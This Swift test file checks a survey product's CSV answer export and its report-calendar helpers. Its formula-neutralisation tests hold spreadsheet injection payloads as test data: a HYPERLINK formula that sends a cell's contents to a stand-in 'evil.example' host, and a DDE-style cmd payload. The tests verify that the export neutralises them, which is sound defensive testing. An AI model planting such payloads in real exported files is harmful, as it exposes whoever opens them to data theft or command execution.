import Foundation
import Testing
import TouchpointCollector
import TouchpointCore
import TouchpointStore
import TouchpointJOSE

/// A strict RFC 4180 reader for checking what the export writes: records of fields.
func parseCSV(_ text: String) -> [[String]] {
    var records: [[String]] = []
    var record: [String] = []
    var field = ""
    var quoted = false
    var characters = Array(text)[...]
    while let character = characters.popFirst() {
        if quoted {
            if character == "\"" {
                if characters.first == "\"" {
                    field.append("\"")
                    characters.removeFirst()
                } else {
                    quoted = false
                }
            } else {
                field.append(character)
            }
        } else if character == "\"" {
            quoted = true
        } else if character == "," {
            record.append(field)
            field = ""
        } else if character == "\r\n" {
            record.append(field)
            records.append(record)
            record = []
            field = ""
        } else {
            field.append(character)
        }
    }
    return records
}

@Suite("The raw-answer export and CSV")
struct ReportExportTests {
    let key = KioskKey.generate()
    static let awkward = "Fine, but the \"coffee\"\nwas cold; 5/10\r\n, really"

    @Test("CSV fields are quoted only when needed, quotes doubled, records end in CRLF")
    func csvQuoting() {
        #expect(CSV.field("plain text") == "plain text")
        #expect(CSV.field("a,b") == "\"a,b\"")
        #expect(CSV.field("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSV.field("two\nlines") == "\"two\nlines\"")
        #expect(CSV.field("cr\r") == "\"cr\r\"")
        #expect(CSV.field("") == "")
        #expect(CSV.record(["a", "b,c", ""]) == "a,\"b,c\",\r\n")
        #expect(parseCSV(CSV.record(["x", Self.awkward, "y"])) == [["x", Self.awkward, "y"]])
    }

    @Test("A cell starting with =, +, -, @, tab or CR gets a leading '; others are unchanged")
    func formulaNeutralisation() {
        for cell in ["=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\r\n=1"] {
            #expect(CSV.neutralisingFormula(cell) == "'" + cell)
        }
        for cell in ["", "plain", " =1", "'=1", "5", "a=b", "\n=1", "＝1"] {
            #expect(CSV.neutralisingFormula(cell) == cell)
        }
    }

    @Test("The export neutralises comments, accounts, sites, kiosks and touchpoints, not numbers; raw output is unchanged")
    func exportNeutralisesFormulas() {
        let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        let sum = "@SUM(1+1)*cmd|' /C calc'!A0"
        func answer(_ type: String, _ value: String) -> ExportedAnswer {
            ExportedAnswer(
                responseID: "0190f2a0-0000-7000-8000-000000000001", completedAt: Fixtures.start, site: "-site", kiosk: "+kiosk",
                touchpoint: "@retail", stage: "shop", survey: "retail-visit", surveyVersion: 1, language: "en", account: sum,
                status: "complete", suspect: false, position: 0, question: "q", type: type, value: value)
        }
        let answers = [answer("text", hyperlink), answer("nps", "-1"), answer("choice", "-option")]
        var writer = AnswerCSVWriter()
        let records = parseCSV(AnswerCSVWriter.header + writer.records(answers))
        #expect(records[1][14] == "'" + hyperlink)
        #expect(records[1][9] == "'" + sum)
        #expect(records[1][2] == "'-site" && records[1][3] == "'+kiosk" && records[1][4] == "'@retail")
        #expect(records[2][14] == "-1" && records[3][14] == "-option")
        #expect(records[1][0] == answers[0].responseID && records[1][7] == "1")
        #expect(answers[0].csvFields() == records[1])

        var raw = AnswerCSVWriter(neutralisingFormulas: false)
        let rawRecords = parseCSV(AnswerCSVWriter.header + raw.records(answers))
        #expect(rawRecords[1][14] == hyperlink && rawRecords[1][9] == sum && rawRecords[1][2] == "-site")
        #expect(answers[0].csvFields(neutralisingFormulas: false) == rawRecords[1])
    }

    @Test("Every answer is exported once, in order, in chunks, with filters; comments survive CSV", arguments: StorageBackend.available)
    func exportInChunks(backend: StorageBackend) async throws {
        try await withStorage(backend) { storage, _ in
            try await FeedFixtures.enroll(storage, key: key)
            let responses = [
                ReportFixtures.response(sequence: 1, nps: 3, csat: 2, comment: Self.awkward),
                ReportFixtures.response(service: true, sequence: 2, nps: 9, csat: 5, ces: 4, comment: "ok"),
                ReportFixtures.response(sequence: 3, nps: 10, csat: 5, site: "lund", language: "sv"),
                ReportFixtures.response(sequence: 4, nps: 0, csat: 1, suspect: true),
                ReportFixtures.response(sequence: 5, nps: 8, status: .partial),
            ]
            // A comment with newlines no longer passes ingest (the kiosk never writes a control character), but rows
            // stored before strict ingest may hold one: that one is stored behind the verifier's back.
            _ = try await storage.ingest(
                try Fixtures.verified([responses[0]], key: key), health: Fixtures.health, kiosk: "kiosk-1", at: FeedFixtures.receivedAt)
            _ = try await FeedFixtures.ingest(Array(responses.dropFirst()), into: storage, key: key)

            var chunks: [[ExportedAnswer]] = []
            try await storage.exportAnswers(AnswerSelection(), chunkSize: 3) { chunks.append($0) }
            // 3 (retail with comment) + 5 (service with comment) + 2 (retail) answers; suspect and partial left out.
            #expect(chunks.map(\.count) == [3, 3, 3, 1])
            let all = chunks.flatMap { $0 }
            #expect(all.map(\.responseID) == Array(repeating: responses[0].id, count: 3) + Array(repeating: responses[1].id, count: 5)
                + Array(repeating: responses[2].id, count: 2))
            #expect(all.map(\.question).prefix(3) == ["recommend", "improve", "visit-satisfaction"])
            #expect(all[1].value == Self.awkward)
            #expect(all.first { $0.type == "yesno" }?.value == "yes")
            #expect(all.first { $0.type == "ces" }?.value == "4")
            #expect(Set(all.map(\.responseID)).count == 3)

            let flagged = try await storage.exportAnswers(
                AnswerSelection(includeSuspect: true, includePartial: true), after: nil, limit: 100)
            #expect(flagged.count == 10 + 2 + 1)
            #expect(flagged.contains { $0.suspect } && flagged.contains { $0.status == "partial" })

            let lund = try await storage.exportAnswers(AnswerSelection(filters: [.site: "lund"]), after: nil, limit: 100)
            #expect(lund.count == 2 && lund.allSatisfy { $0.site == "lund" && $0.language == "sv" })
            let effort = try await storage.exportAnswers(AnswerSelection(filters: [.question: "service-effort"]), after: nil, limit: 100)
            #expect(effort.map(\.value) == ["4"])
            let later = try await storage.exportAnswers(
                AnswerSelection(from: responses[2].completedAt), after: nil, limit: 100)
            #expect(Set(later.map(\.responseID)) == [responses[2].id])

            let text = CSV.record(ExportedAnswer.csvHeader) + all.map { CSV.record($0.csvFields()) }.joined()
            var writer = AnswerCSVWriter()
            #expect(AnswerCSVWriter.header + writer.records(Array(all.prefix(4))) + writer.records(Array(all.dropFirst(4))) == text)
            let records = parseCSV(text)
            #expect(records.count == 11)
            #expect(records[0] == ExportedAnswer.csvHeader)
            #expect(records[2][14] == Self.awkward)
            #expect(records[2][0] == responses[0].id)
            #expect(records[2][1] == Timestamp.string(responses[0].completedAt))
            #expect(records.allSatisfy { $0.count == 15 })
        }
    }
}

@Suite("Report days, weeks and months")
struct ReportCalendarTests {
    @Test("Days round-trip and invalid dates are refused")
    func days() {
        #expect(ReportCalendar.day(of: ReportFixtures.monday) == "2026-11-16")
        #expect(ReportCalendar.day(of: ReportFixtures.monday.addingTimeInterval(-0.001)) == "2026-11-15")
        #expect(ReportCalendar.dayNumber("1970-01-01") == 0)
        #expect(ReportCalendar.dayNumber("2024-02-29") == 19_782)
        #expect(ReportCalendar.dayNumber("2026-02-29") == nil)
        #expect(ReportCalendar.dayNumber("2026-13-01") == nil)
        #expect(ReportCalendar.dayNumber("2026-1-01") == nil)
        #expect(ReportCalendar.day(number: 19_782) == "2024-02-29")
        #expect(ReportCalendar.day(of: Date(timeIntervalSince1970: -1)) == "1969-12-31")
    }

    @Test("ISO weeks: week 1 holds the first Thursday", arguments: [
        ("2026-01-01", "2026-W01"), ("2025-12-29", "2026-W01"), ("2025-12-28", "2025-W52"),
        ("2027-01-01", "2026-W53"), ("2027-01-04", "2027-W01"), ("2026-11-16", "2026-W47"), ("2026-11-22", "2026-W47"),
    ])
    func weeks(day: String, week: String) {
        #expect(ReportCalendar.bucket(.week, day: day) == week)
    }

    @Test("Months, and from/to bounds from days and times")
    func monthsAndBounds() {
        #expect(ReportCalendar.bucket(.month, day: "2026-11-16") == "2026-11")
        #expect(ReportQuery.parseTime("2026-11-16", isEnd: false) == ReportFixtures.monday)
        #expect(ReportQuery.parseTime("2026-11-16", isEnd: true) == ReportFixtures.monday.addingTimeInterval(86_400))
        #expect(ReportQuery.parseTime("2026-11-16T01:00:00Z", isEnd: true) == ReportFixtures.monday.addingTimeInterval(3600))
        #expect(ReportQuery.parseTime("yesterday", isEnd: false) == nil)
    }
}
